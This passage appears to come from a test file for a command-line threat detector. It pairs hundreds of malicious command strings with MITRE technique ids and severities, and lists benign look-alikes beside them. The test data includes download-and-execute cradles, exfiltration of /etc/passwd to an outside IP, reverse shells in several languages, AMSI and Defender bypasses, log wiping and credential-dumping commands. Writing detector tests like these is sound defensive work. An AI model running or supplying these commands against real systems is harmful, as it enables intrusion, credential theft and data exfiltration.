    ['winlogon', 'reg add "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Userinit /d "C:\\Windows\\system32\\userinit.exe,C:\\ProgramData\\u.exe" /f', 'persist.winlogon', 'T1547.004'],
    ['ifeo debugger', 'reg add "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\notepad.exe" /v Debugger /d "C:\\x\\d.exe"', 'persist.ifeo', 'T1546.012'],
    ['sticky keys', 'copy /y C:\\Windows\\System32\\cmd.exe C:\\Windows\\System32\\sethc.exe', 'persist.accessibility', 'T1546.008'],
    ['netsh helper', 'netsh add helper C:\\x\\helper.dll', 'persist.appinit_dlls', 'T1546.010'],
    ['startup script', 'copy x.vbs "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.vbs"', 'persist.startup_script', 'T1547.001'],
    ['com hijack', 'reg add "HKCU\\Software\\Classes\\CLSID\\{11111111-2222-3333-4444-555555555555}\\InprocServer32" /ve /d "C:\\x\\c.dll" /f', 'persist.registry_hijack', 'T1546.015'],
    ['mof', 'mofcomp.exe -N:root\\subscription C:\\x\\p.mof', 'persist.mof', 'T1546.003'],
    ['powershell 2', 'powershell.exe -version 2 -nop -w hidden -c "iex $c"', 'evasion.ps_downgrade', 'T1562.010'],
    ['defender service', 'sc config WinDefend start= disabled', 'evasion.defender_service', 'T1562.001'],
    ['defender alias', 'Set-MpPreference -dioavp $true', 'evasion.defender', 'T1562.001'],
    ['defender policy value', 'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection" /v DisableOnAccessProtection /t REG_DWORD /d 1 /f', 'evasion.defender', 'T1562.001'],
    ['amsi wildcard', '$t=[Ref].Assembly.GetTypes()|?{$_.Name -like "*iUtils"}; $f=$t.GetFields("NonPublic,Static")|?{$_.Name -like "*Context"}', 'evasion.amsi', 'T1562.001'],
    ['etw logman', 'logman update trace EventLog-Application --p Microsoft-Windows-PowerShell -ets', 'evasion.etw', 'T1562.006'],
    ['audit off', 'auditpol /clear /y', 'evasion.audit_off', 'T1562.002'],
    ['usn journal', 'fsutil usn deletejournal /D C:', 'evasion.usn_journal', 'T1070'],
    ['event log disabled', 'wevtutil sl Microsoft-Windows-PowerShell/Operational /e:false', 'evasion.log_clear', 'T1070.001'],
    ['history file', 'ln -sf /dev/null ~/.bash_history', 'evasion.history_file', 'T1070.003'],
    ['alternate data stream', 'type C:\\x\\p.exe > C:\\x\\notes.txt:p.exe', 'evasion.ads', 'T1564.004'],
    ['renamed certutil', 'copy C:\\Windows\\System32\\certutil.exe C:\\x\\c.exe', 'evasion.renamed_lolbin', 'T1036.003'],
    ['wmic interpreter', 'wmic /node:10.0.0.7 process call create "powershell -nop -c iex $x"', 'lolbin.wmic_interpreter', 'T1047'],
    ['msxsl', 'msxsl.exe data.xml run.xsl', 'lolbin.msxsl', 'T1220'],
    ['wmic create', 'wmic process call create "notepad.exe"', 'lolbin.wmic_cli_create', 'T1047'],
    ['forfiles', 'forfiles /p c:\\windows\\system32 /m notepad.exe /c "cmd /c calc.exe"', 'lolbin.indirect_exec', 'T1202'],
    ['pcalua', 'pcalua.exe -a C:\\x\\p.exe', 'lolbin.indirect_exec', 'T1202'],
    ['MpCmdRun download', 'MpCmdRun.exe -DownloadFile -url https://example.net/p -path C:\\x\\p.exe', 'lolbin.download_helper', 'T1105'],
    ['finger download', 'finger run@203.0.113.9 | more +2 | cmd', 'lolbin.download_helper', 'T1105'],
    ['rundll32 url export', 'rundll32.exe url.dll,OpenURL http://203.0.113.9/p.hta', 'lolbin.rundll32_url', 'T1218.011'],
    ['rundll32 ordinal', 'rundll32.exe C:\\x\\a.dll,#1', 'lolbin.rundll32_odd', 'T1218.011'],
    ['regsvr32 image', 'regsvr32 /s C:\\x\\logo.png', 'lolbin.regsvr32_odd', 'T1218.010'],
    ['office binary url', 'winword.exe http://203.0.113.9/doc', 'lolbin.signed_binary_url', 'T1218'],
    ['mavinject', 'mavinject.exe 4321 /INJECTRUNNING C:\\x\\i.dll', 'lolbin.dll_injection_helper', 'T1218.013'],
    ['msiexec dll', 'msiexec /z C:\\x\\p.dll', 'lolbin.msiexec_remote', 'T1218.007'],
    ['tttracer user file', 'tttracer.exe C:\\Users\\Public\\p.exe', 'lolbin.proxy_user_file', 'T1218'],
    ['msiexec bare-IP share', 'msiexec /i \\\\203.0.113.9\\s\\p.msi /qn', 'lolbin.msiexec_remote', 'T1218.007'],
    ['installutil helper', "[System.Configuration.Install.ManagedInstallerClass]::InstallHelper(@('/u', 'C:\\x\\p.dll'))", 'lolbin.installutil_helper', 'T1218.004'],
    ['vault', 'vaultcmd /listcreds:"Windows Credentials" /all', 'cred.windows_vault', 'T1555.004'],
    ['kerberoast', 'Rubeus.exe kerberoast /outfile:h.txt', 'cred.kerberos', 'T1558.003'],
    ['dump tool', 'secretsdump.py -sam sam.save -system system.save LOCAL', 'cred.dump_tools', 'T1003'],
    ['history read', 'Get-Content (Get-PSReadlineOption).HistorySavePath', 'cred.shell_history', 'T1552.003'],
    ['registry passwords', 'reg query HKLM /f password /t REG_SZ /s', 'cred.registry_search', 'T1552.002'],
    ['shadow copy link', 'mklink /d C:\\sc \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\', 'cred.shadow_copy', 'T1003.003'],
    ['hive file copy', 'esentutl.exe /y /vss C:/Windows/System32/config/SAM /d C:\\x\\s', 'cred.hive_copy', 'T1003.002'],
    ['shadow via awk', "awk -F: '{print $2}' /etc/shadow", 'cred.shadow_file', 'T1003.008'],
    ['recovery registry', 'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\SystemRestore" /v DisableSR /t REG_DWORD /d 1 /f', 'impact.shadow_delete', 'T1490'],
    ['offensive function', 'Invoke-ReflectivePEInjection -PEBytes $b', 'tool.offensive_powershell', 'T1059.001'],
    ['enumeration script', 'curl -sL https://example.org/linpeas.sh | sh', 'tool.linux_recon', 'T1082'],
    ['http exfiltration', 'curl -F "f=@/etc/passwd" http://203.0.113.9/u', 'exfil.http_upload', 'T1041'],
    ['event log service disabled', 'Set-Service EventLog -StartupType Disabled', 'evasion.log_clear', 'T1070.001'],
    ['certutil -URL', 'certutil.exe -URL http://203.0.113.9/p', 'lolbin.certutil_download', 'T1105'],
    ['App Installer from a URL', 'start ms-appinstaller://?source=http://203.0.113.9/p', 'lolbin.download_helper', 'T1105'],
    ['decode into shell', 'echo 69642e | xxd -r -p | sh', 'exec.decode_to_shell', 'T1140'],
    ['download to temp from IP', 'wget http://203.0.113.9/t -O /tmp/t', 'ingress.download_to_temp', 'T1105'],
    ['discovery run', 'whoami /all & net localgroup administrators & nltest /dclist: & systeminfo', 'discovery.chain', 'T1082'],
    ['reversed IEX', "$s='gnirtSdaolnwoD';iex ($s[-1..-($s.length)] -join '')", 'exec.obfuscated_iex', 'T1027'],
    ['mdr alias', "&((gv '*mdr*').Name[3,11,2]-join'') $c", 'exec.iex_alias', 'T1027'],
    ['stdin launcher', 'cmd /c "set c=iex $x && powershell -nop -c $env:c"', 'exec.stdin_launcher', 'T1027.010'],
    ['format operator cradle', "&(\"{1}{0}\"-f'EX','I') (New-Object Net.WebClient).(\"{0}{1}\" -f 'Download','String').Invoke('http://203.0.113.9/a')", 'cradle.powershell', 'T1105'],
    ['PSHome IEX', ".($PSHome[21]+$PSHome[30]+'x') (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')", 'cradle.powershell', 'T1105'],
    ['scriptblock cradle', '[ScriptBlock]::Create((New-Object Net.WebClient).DownloadString("http://203.0.113.9/a")).Invoke()', 'cradle.powershell', 'T1105'],
    ['process substitution from IP', 'bash <(curl -s http://203.0.113.9/i.sh)', 'cradle.shell_pipe_shady', 'T1105'],
    ['encoded downgrade', `powershell -enc ${b64('powershell -version 2 -ep bypass -c iex $c')}`, 'evasion.ps_downgrade', 'T1562.010'],
    ['reflection flag', "$t=[Ref].Assembly.GetType($n); $t.GetField($f,'NonPublic,Static').SetValue($null,$true)", 'evasion.reflection_flag', 'T1562.001'],
    ['script-block logging off', "$s=[Ref].Assembly.GetType('System.Management.Automation.Utils').GetField('cachedGroupPolicySettings','NonPublic,Static')", 'evasion.script_logging', 'T1562.002'],
    ['memory patch', '$a=[W]::GetProcAddress($h,$n); [W]::VirtualProtect($a,[uint32]6,0x40,[ref]$o); [System.Runtime.InteropServices.Marshal]::Copy($p,0,$a,6)', 'evasion.memory_patch', 'T1562.001'],
    ['signed script proxy', 'SyncAppvPublishingServer.vbs "n;(New-Object Net.WebClient).DownloadString(\'http://203.0.113.9/a\')|IEX"', 'lolbin.signed_script', 'T1216'],
    ['webdav launch', 'rundll32 \\\\files.example.net@SSL@443\\DavWWWRoot\\p.dll,Start', 'ingress.remote_share_exec', 'T1105'],
    ['cmd from share', 'cmd.exe /k < \\\\203.0.113.9\\s\\c.txt', 'ingress.remote_share_exec', 'T1105'],
    ['sudo alias', "echo \"alias sudo='read -sp pw: p; echo $p > /tmp/.p; sudo'\" >> ~/.bashrc", 'persist.hijack_linux', 'T1546.004'],
    ['setuid capability', 'setcap cap_setuid+ep /tmp/python3', 'persist.hijack_linux', 'T1546.004'],
    ['dsrm', 'reg add "HKLM\\System\\CurrentControlSet\\Control\\Lsa" /v DsrmAdminLogonBehavior /t REG_DWORD /d 2', 'persist.dsrm', 'T1098'],
    ['impacket', 'impacket-wmiexec corp/admin@10.0.0.7', 'tool.offensive_cli', 'T1588.002'],
    ['mimikatz skeleton key', 'mimikatz "misc::skeleton" exit', 'cred.mimikatz', 'T1003.001'],
    ['mimikatz module syntax', 'crypto::capi\ncrypto::certificates /export', 'cred.mimikatz', 'T1003.001'],
    ['mimikatz driver', '!+\n!processprotect /process:lsass.exe /remove', 'cred.mimikatz', 'T1003.001'],
    ['amsi patch bytes', '$p = [Byte[]] (0xB8, 0x57, 0x00, 0x07, 0x80, 0xC3); [Marshal]::Copy($p, 0, $a, 6)', 'evasion.amsi', 'T1562.001'],
    ['wsh amsi switch', 'reg add "HKCU\\Software\\Microsoft\\Windows Script\\Settings" /v AmsiEnable /t REG_DWORD /d 0 /f', 'evasion.amsi', 'T1562.001'],
    ['msbuild xml project', 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe build.xml', 'lolbin.msbuild_inline', 'T1127.001'],
    ['uid 0 combined flags', 'useradd -ou 0 -g 0 toor', 'privesc.root_account', 'T1136.001'],
    ['netcat escaped shell', 'RS="ncat 10.0.0.5 443 -e \\"/bin/bash -c id;/bin/bash\\""', 'revshell.netcat_exec', 'T1059.004'],
    ['git pager hook', "git config --global core.pager 'nc 10.0.0.5 443 -e /bin/sh; less'", 'persist.hijack_linux', 'T1546.004'],
    ['screensaver', 'reg add "HKCU\\Control Panel\\Desktop" /v SCRNSAVE.EXE /d C:\\x\\s.scr /f', 'persist.registry_hijack', 'T1546.015'],
    ['appcert dlls', 'reg add "HKLM\\System\\CurrentControlSet\\Control\\Session Manager\\AppCertDlls" /v x /d C:\\x\\a.dll', 'persist.appinit_dlls', 'T1546.010'],
    ['hidden account', 'net user svc$ Winter2024! /add', 'persist.hidden_account', 'T1564.002'],
    ['vbs downloader by echo', 'echo Set o = CreateObject("MSXML2.XMLHTTP") > dl.vbs', 'ingress.staged_downloader', 'T1105'],
    ['ftp script', 'echo get p.exe >> f.txt && ftp -v -n -s:f.txt 203.0.113.9', 'ingress.staged_downloader', 'T1105'],
    ['dde', "=cmd|' /c powershell -nop -c calc'!A0", 'exec.dde', 'T1559.002'],
    ['sharpersist', 'SharPersist.exe -t schtask -c "C:\\x\\a.exe" -n upd -m add', 'tool.offensive_powershell', 'T1059.001'],
    ['server xmlhttp cradle', "$x=New-Object -ComObject MsXml2.ServerXmlHttp;$x.Open('GET','http://203.0.113.9/a',$False);$x.Send();IEX $x.ResponseText", 'cradle.powershell', 'T1105'],
    ['awk background shell', "awk 'BEGIN {system(\"/bin/sh &\")}'", 'exec.shell_escape', 'T1059.004'],
    ['powersploit function', 'Install-SSP -Path C:\\x\\ssp.dll', 'tool.offensive_powershell', 'T1059.001'],
    ['nimgrab', 'nimgrab.exe https://example.net/p.exe $env:TEMP\\p.exe', 'lolbin.download_helper', 'T1105'],
    ['ads stream write', "Add-Content -Path .\\notes.txt -Value $payload -Stream 'cmd'", 'evasion.ads', 'T1564.004'],
    ['iis logging off', 'appcmd.exe set config "Default Web Site" /section:httplogging /dontLog:true', 'evasion.audit_off', 'T1562.002'],
    ['.NET ETW registry', 'reg add HKLM\\Software\\Microsoft\\.NETFramework /v ETWEnabled /t REG_DWORD /d 0', 'evasion.etw', 'T1562.006'],
    ['edr stopped', 'sudo systemctl stop falcon-sensor.service', 'evasion.security_agent', 'T1562.001'],
    ['sysmon uninstall', 'sysmon64.exe -u', 'evasion.security_agent', 'T1562.001'],
    ['office macros on', 'reg add HKCU\\Software\\Microsoft\\Office\\16.0\\Excel\\Security /v VBAWarnings /t REG_DWORD /d 1 /f', 'evasion.office_security', 'T1562.001'],
    ['dns txt command', 'powershell .(nslookup -q=txt cmd.example.net 8.8.8.8)[-1]', 'c2.dns_txt_exec', 'T1071.004'],
    ['netexec spray', "nxc smb 192.0.2.0/24 -u users.txt -p 'Spring2025!' --continue-on-success", 'tool.ad_attack_cli', 'T1588.002'],
    ['crackmapexec dump', 'crackmapexec smb 192.0.2.10 -u admin -H aad3b435b51404ee --sam', 'tool.ad_attack_cli', 'T1588.002'],
    ['rubeus kerberoast', 'Rubeus.exe kerberoast /outfile:hashes.txt', 'tool.ad_attack_cli', 'T1588.002'],
    ['certipy request', 'certipy req -u user@corp.local -p pass -ca CORP-CA -template User', 'tool.ad_attack_cli', 'T1588.002'],
    ['enum4linux', 'enum4linux -a 192.0.2.10', 'tool.ad_attack_cli', 'T1588.002'],
    ['sharphound', 'SharpHound.exe -c All --zipfilename out.zip', 'tool.ad_attack_cli', 'T1588.002'],
    ['xmrig', './xmrig -o pool.example.net:3333 -u 44Abc --donate-level 1 -B', 'impact.cryptominer', 'T1496'],
    ['stratum url', 'cfg.pools[0].url = "stratum+tcp://pool.example.net:4444"', 'impact.cryptominer', 'T1496'],
    ['startup folder by 8.3 name', 'copy upd.bat C:\\Users\\u\\AppData\\Roaming\\Microsoft\\Windows\\Startm~1\\Programs\\Startup\\upd.bat', 'persist.startup_script', 'T1547.001'],
    ['firewall service stopped', 'net stop MpsSvc', 'evasion.security_agent', 'T1562.001'],
    ['passwd to telnet', 'cat /etc/passwd | base64 | telnet 192.0.2.7 5555', 'exfil.raw_channel', 'T1048.003'],
    ['icmp payload exfil', 'base64 /etc/passwd | xxd -ps -c 16 | while read i; do ping -c1 -s32 -p $i 192.0.2.7; done', 'exfil.raw_channel', 'T1048.003'],
    ['dns label exfil', 'for l in `cat /etc/passwd`; do dig $l.exfil.example.net; done', 'exfil.raw_channel', 'T1048.003'],
    ['gatekeeper off', 'sudo spctl --master-disable', 'evasion.gatekeeper_off', 'T1553.001'],
    ['timestomp', "$f=(gi .\\a.exe);$d='01/03/2006 12:12 pm';$f.LastWriteTime=$d;$f.CreationTime=$d", 'evasion.timestomp', 'T1070.006'],
    ['miner fetched and run', 'wget https://example.net/xmrig-6.1-linux-x64.tar.gz; tar -xf xmrig-6.1-linux-x64.tar.gz; ./xmrig-6.1/xmrig', 'impact.cryptominer', 'T1496'],
  ])('%s', (_n, text, id, tech) => {
    const f = technique(text, id);
    expect(f).toBeDefined();
    expect(f?.name.startsWith(`${tech} `)).toBe(true);
    expect(['medium', 'high', 'critical']).toContain(f?.severity);
  });

  it.each([
    ['firewall off', 'netsh advfirewall set allprofiles state off', 'evasion.firewall_off'],
    ['sudoers', 'echo "deploy ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers.d/deploy', 'persist.sudoers'],
    ['local admin', 'net user svc P4ss /add && net localgroup administrators svc /add', 'persist.local_admin'],
    ['powershell profile', 'Add-Content -Path $PROFILE -Value "Import-Module posh-git"', 'persist.ps_profile'],
    ['at job', 'echo "/usr/local/bin/rotate.sh" | at midnight', 'persist.at'],
    ['profile.d', 'echo "export PATH=$PATH:/opt/tool/bin" > /etc/profile.d/tool.sh', 'persist.boot_script'],
    ['boot script', 'echo "/usr/local/bin/mount-data.sh" >> /etc/rc.local', 'persist.boot_script'],
  ])('dual-use admin actions are low alone: %s', (_n, text, id) => {
    expect(technique(text, id)?.severity).toBe('low');
  });
  it('a dual-use action next to an offensive technique is high', () => {
    expect(technique('netsh advfirewall set allprofiles state off & nc 10.0.0.5 443 -e cmd.exe', 'evasion.firewall_off')?.severity).toBe('high');
  });
});

describe('benign counter-cases for the added shapes stay at low or below', () => {
  it.each([
    ['forfiles log cleanup', 'forfiles /p "D:\\logs" /s /m *.log /d -30 /c "cmd /c del @path"'],
    ['find -exec sh -c', 'find . -name "*.sh" -exec /bin/sh -c \'shellcheck "$1"\' _ {} \\;'],
    ['nc receives a file', 'nc -l 9000 > backup.tar'],
    ['suid on own tool', 'chmod 4755 /usr/local/bin/ping-helper'],
    ['docker data volume', 'docker run --rm -v /srv/data:/data alpine tar czf /data/b.tgz /data/in'],
    ['upload to named https service', 'curl --upload-file ./report.pdf https://transfer.example.com/report.pdf'],
    ['event log service set to automatic', 'Set-Service -Name EventLog -StartupType Automatic'],
    ['certutil verifies a local chain', 'certutil -verify -urlfetch C:\certs\server.cer'],
    ['powershell 2 compatibility test', 'powershell.exe -Version 2 -NoProfile -File .\\Test-Compat.ps1'],
    ['printer rundll32', 'rundll32 printui.dll,PrintUIEntry /in /n "\\\\print01\\Floor2"'],
    ['scriptblock from local file', '$sb = [ScriptBlock]::Create((Get-Content .\\build.ps1 -Raw)); & $sb'],
    ['wmi remote cleanup', 'Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList "cmd /c del C:\\Temp\\stats.txt" -ComputerName $c'],
    ['format strings', '$msg = "{0} of {1} done" -f $i, $n; Write-Host ("Total: {0:N0}" -f $sum)'],
    ['single discovery command', 'ipconfig /all > C:\\Support\\net.txt'],
    ['reading own history config', 'Set-PSReadLineOption -HistorySaveStyle SaveIncrementally'],
    ['hta in docs', 'Write-Host "Do not open .hta files from e-mail"'],
    ['dotfile sudo alias', "alias sudo='sudo '"],
    ['perl exec of sh -c', "exec '/bin/sh', '-c', \"exec $postgres $opts\" or die"],
    ['msbuild solution', 'msbuild.exe MyApp.sln /p:Configuration=Release'],
    ['log shipper restart', 'sudo systemctl restart rsyslog'],
    ['zone identifier read', 'Get-Content .\\setup.exe -Stream Zone.Identifier'],
    ['reflection read', "$v = $o.GetType().GetField('_items','NonPublic,Instance').GetValue($o)"],
    ['file server installer', 'Start-Process \\\\files.corp.example\\deploy\\agent.msi -ArgumentList /qn'],
    ['hosts file backup over nc to a file', 'nc -l 9000 > hosts.bak'],
    ['dig a list of hosts', 'for h in $(cat hosts.txt); do dig +short $h.example.org; done'],
    ['copy a log shipper to the startup folder is low alone', 'copy agent.lnk "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\agent.lnk"'],
    ['touch a file time', '(Get-Item .\\build.log).LastWriteTime = Get-Date'],
    ['gatekeeper status', 'spctl --status'],
    ['cme is also a build tool name', 'cme build --release ./project'],
    ['certificate helper named certify', 'npm run certify -- --domain example.org'],
    ['miner mentioned in a policy note', 'Write-Host "Block xmrig and other miners in the proxy policy"'],
    ['seatbelt word in prose', 'Write-Output "Check the seatbelt sensor data"'],
  ])('%s', (_n, text) => {
    expect(['info', 'low']).toContain(worst(text));
  });
});

describe('normalisation of format operator and host constants', () => {
  const deob = (t: string) => scriptViews(t).find((v) => v.via === 'deobfuscated')?.text ?? '';
  it('resolves "{1}{0}" -f with literal arguments only', () => {
    expect(deob("&(\"{1}{0}\" -f 'EX','I')")).toContain("'iex'");
    expect(deob('"{0}-{1}" -f $a, $b')).toBe('');
  });
  it('spells characters indexed out of $PSHome, $ShellId and $env:ComSpec', () => {
    expect(deob(".($PSHome[21]+$PSHOME[30]+'x')")).toContain("'iex'");
    expect(deob(".($ShellId[1]+$ShellId[13]+'x')")).toContain("'iex'");
    expect(deob("&($env:ComSpec[4,15,25]-join'')")).toContain("'iex'");
  });
  it('substitutes string variables as literals where they are concatenated and as text inside strings', () => {
    const t = deob('$a=\'Down\';$b=\'loadString\';$u="http://203.0.113.9";$w.($a+$b)("$u/a.ps1")');
    expect(t).toContain("('downloadstring')");
    expect(t).toContain('("http://203.0.113.9/a.ps1")');
  });
});

describe('twelfth round: shapes from the training split misses, each with a benign look-alike', () => {
  it.each([
    ['cached logons read from the SECURITY hive', 'reg query "HKEY_LOCAL_MACHINE\\SECURITY\\Cache" /v NL$1', 'cred.security_hive_keys', 'T1003.004', 'high'],
    ['WDigest told to keep cleartext logons', 'reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f', 'cred.protection_weakened', 'T1112', 'high'],
    ['LSA protection switched off', 'Set-ItemProperty -Path HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Lsa -Name RunAsPPL -Value 0', 'cred.protection_weakened', 'T1112', 'high'],
    ['home directories searched for private keys', 'grep -rl "BEGIN OPENSSH PRIVATE KEY" /home /root 2>/dev/null', 'cred.private_key_search', 'T1552.004', 'medium'],
    ['file system searched for SSH keys', 'find / -name "id_ed25519*" 2>/dev/null', 'cred.private_key_search', 'T1552.004', 'medium'],
    ['PowerView lists roastable accounts', 'Get-DomainUser -SPN -Properties samaccountname,serviceprincipalname', 'tool.powerview_attack', 'T1087.002', 'medium'],
    ['PowerView lists unconstrained delegation', 'Get-DomainComputer -Unconstrained -Properties dnshostname', 'tool.powerview_attack', 'T1087.002', 'medium'],
    ['a potato tool', '.\\PrintSpoofer64.exe -i -c powershell', 'tool.offensive_named', 'T1588.002', 'high'],
    ['PowerUp service checks', 'Get-UnquotedService | Format-List Name,PathName', 'tool.offensive_named', 'T1588.002', 'high'],
    ['impacket against a target', 'samrdump.py corp.local/jdoe:Winter2024@10.1.2.3', 'tool.offensive_named', 'T1588.002', 'high'],
    ['vi shell escape', "sudo vi -c ':!/bin/bash' /dev/null", 'exec.editor_shell_escape', 'T1059.004', 'medium'],
    ['zip test command', 'zip /tmp/t.zip /etc/hosts -T --unzip-command="sh -c /bin/sh"', 'exec.editor_shell_escape', 'T1059.004', 'medium'],
    ['sudo runs as user -1', 'sudo -u#4294967295 id', 'privesc.sudo_uid_bypass', 'T1548.003', 'high'],
    ['macOS unified log erased', 'sudo log erase --all', 'evasion.unix_log_clear', 'T1070.002', 'high'],
    ['all of /var/log removed', 'rm -rf /var/log/*', 'evasion.unix_log_clear', 'T1070.002', 'high'],
    ['login records emptied', 'cat /dev/null > /var/log/wtmp', 'evasion.unix_log_clear', 'T1070.002', 'high'],
    ['every log file on the host deleted', 'find / -type f -name "*.log" -exec rm -f {} \\;', 'evasion.unix_log_clear', 'T1070.002', 'high'],
    ['Rubeus loaded in memory and called', "[Rubeus.Program]::Main('triage'.Split())", 'tool.offensive_named', 'T1588.002', 'high'],
    ['script host copied to a user folder (VBScript)', 'Set fso = CreateObject("Scripting.FileSystemObject")\nfso.CopyFile "C:\\Windows\\System32\\cscript.exe", sh.ExpandEnvironmentStrings("%LOCALAPPDATA%") & "\\svc.exe"', 'evasion.lolbin_copy_user', 'T1036.003', 'medium'],
    ['cmd copied to temp', 'copy %windir%\\system32\\cmd.exe %temp%\\update.exe', 'evasion.lolbin_copy_user', 'T1036.003', 'medium'],
    ['C# interactive runs a temp script', 'csi.exe %TEMP%\\stage.csx', 'lolbin.proxy_user_file_dev', 'T1218', 'medium'],
    ['msiexec registers a public-folder DLL', 'msiexec /z "C:\\Users\\Public\\helper.dll"', 'lolbin.proxy_user_file_dev', 'T1218', 'medium'],
    ['verclsid starts a COM object', 'verclsid.exe /S /C {0000002F-0000-0000-C000-000000000046}', 'lolbin.com_or_auth_proxy', 'T1218', 'medium'],
    ['rpcping forces NTLM to a host', 'rpcping -s 10.1.2.3 -e 9997 -a connect -u NTLM', 'lolbin.com_or_auth_proxy', 'T1218', 'medium'],
    ['control.exe loads a DLL', 'control.exe C:\\Users\\Public\\panel.dll', 'lolbin.com_or_auth_proxy', 'T1218', 'medium'],
    ['Electron app told to launch its GPU process through cmd', '"C:\\Program Files\\Chat\\chat.exe" --disable-gpu-sandbox --gpu-launcher="cmd /c start notepad"', 'lolbin.electron_cmd_prefix', 'T1218.015', 'medium'],
  ])('%s', (_n, text, id, tech, severity) => expectTechnique(text, id, tech, severity));

  it.each([
    ['security center key', 'reg query "HKLM\\SOFTWARE\\Microsoft\\Security Center"'],
    ['WDigest hardening', 'reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 0 /f'],
    ['LSA protection switched on', 'Set-ItemProperty -Path HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Lsa -Name RunAsPPL -Value 1'],
    ['one key file checked', 'grep -q "BEGIN RSA PRIVATE KEY" "$KEYFILE" || exit 1'],
    ['own ssh folder listed', 'find ~/.ssh -name id_rsa.pub'],
    ['an admin function of the same name', 'function Get-DomainComputer { param($Name) Get-ADComputer -Identity $Name }\nGet-DomainComputer -Name srv01'],
    ['coerce in code', 'Write-Host "Coerce the value to an int"; $potato = 2'],
    ['vim batch edit', "vim -c ':set ff=unix' -c ':wq' notes.txt"],
    ['zip self-test', 'zip -T archive.zip'],
    ['sudo to a numeric user', "sudo -u '#1001' id"],
    ['own logs rotated out', 'find /var/log/myapp -name "*.log" -mtime +7 -delete'],
    ['a class with a Main method', '[MyTool.Program]::Main(@())'],
    ['old compressed logs removed', 'rm -rf /var/log/myapp/*.gz; find /var/log -name "*.gz" -mtime +30 -delete'],
    ['own log truncated', ': > /var/log/myapp.log'],
    ['cmd started with a temp output', 'Start-Process C:\\Windows\\System32\\cmd.exe -ArgumentList "/c query user > $env:TEMP\\u.txt"'],
    ['C# script from the repository', 'csi.exe .\\build\\tasks.csx'],
    ['MSI from temp installed', 'msiexec /i "%TEMP%\\agent.msi" /qn'],
    ['control panel applet', 'control.exe desk.cpl'],
    ['rpcping reachability check', 'rpcping /s mail01 /t ncacn_ip_tcp'],
    ['renderer run under a debugger', "chrome --renderer-cmd-prefix='xterm -e gdb --args' --no-sandbox"],
  ])('%s', (_n, text) => {
    expect(['info', 'low']).toContain(worst(text));
  });
});

describe('thirteenth round: shapes the validation sources held that no rule read (issue 30)', () => {
  it.each([
    ['a Go program that dup2s its socket onto stdio and execs a shell', 'fd, _ := syscall.Socket(syscall.AF_INET, syscall.SOCK_STREAM, 0)\nsyscall.Connect(fd, addr)\nsyscall.Dup2(fd, 0)\nsyscall.Dup2(fd, 1)\nsyscall.Exec("/bin/sh", []string{"sh"}, nil)', 'revshell.dup2_shell', 'critical'],
    ['a Lua bind shell that runs what it receives', 'local socket=require("socket")\nlocal srv=assert(socket.bind("*",7000))\nlocal c=srv:accept()\nwhile true do local line=c:receive(); local p=io.popen(line); c:send(p:read("*a")) end', 'revshell.lua', 'critical'],
    ['a Tcl reverse shell', 'set s [socket 10.0.0.5 7000]\nwhile 1 { gets $s cmd; set out [exec $cmd]; puts $s $out; flush $s }', 'revshell.tcl', 'critical'],
    ['a cradle read into a script block and invoked', "$r=[Net.HttpWebRequest]::Create('http://10.0.0.5/p').GetResponse().GetResponseStream();$t=(New-Object IO.StreamReader $r).ReadToEnd();[ScriptBlock]::Create($t).Invoke()", 'cradle.powershell', 'high'],
    ['a method called through a Get-Member query', "$w=New-Object Net.WebClient;$w.(($w|Get-Member|Where-Object{$_.Name -like '*wn*g'}).Name).Invoke('http://10.0.0.5/p')", 'exec.member_name_obfuscation', 'high'],
    ['a command called through a wildcard alias lookup', ".(GAL I*X)($payload)", 'exec.member_name_obfuscation', 'high'],
    ['the system volume opened raw', '$h = New-Object IO.FileStream "\\\\.\\C:", "Open", "Read", "ReadWrite"; $h.Read($b, 0, 512)', 'evasion.raw_volume_read', 'medium'],
    ['UAC switched off', 'reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v EnableLUA /t REG_DWORD /d 0 /f', 'evasion.uac_off', 'medium'],
    ['a control panel file loaded from a folder through rundll32', 'rundll32.exe shell32.dll,Control_RunDLL C:\\Users\\Public\\display.cpl', 'lolbin.rundll32', 'high'],
    ['a control panel file of another name loaded through rundll32', 'rundll32.exe shell32.dll,Control_RunDLL payload.cpl', 'lolbin.rundll32', 'high'],
    ['a public kernel exploit compiled into /tmp and run', 'gcc pwnkit.c -o /tmp/pwnkit && chmod +x /tmp/pwnkit && /tmp/pwnkit', 'exploit.local_cve', 'high'],
    ['an exploit named by its CVE run from the working folder', './cve-2021-3156 -u nobody', 'exploit.local_cve', 'high'],
    ['the Guest account switched on and made an administrator', 'net user guest /active:yes\nnet localgroup administrators guest /add', 'persist.guest_account', 'medium'],
    ['svchost.exe run from the public folder', 'copy payload.bin "%PUBLIC%\\svchost.exe"\n"%PUBLIC%\\svchost.exe"', 'evasion.system_name_elsewhere', 'medium'],
    ["a Defender exclusion written into the registry", 'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths" /v C:\\work /t REG_DWORD /d 0 /f', 'evasion.defender', 'high'],
    ['key and certificate-store extensions searched for recursively', 'foreach ($e in @(".key", ".pgp", ".ppk", ".pfx", ".p12")) { Get-ChildItem -Path C:\\ -Recurse -File -Include "*$e" }', 'cred.private_key_search', 'medium'],
    ['a file posted to an anonymous drop (dual-use: low alone)', 'curl -F "file=@/home/u/.ssh/id_rsa" https://file.io', 'exfil.file_drop', 'low'],
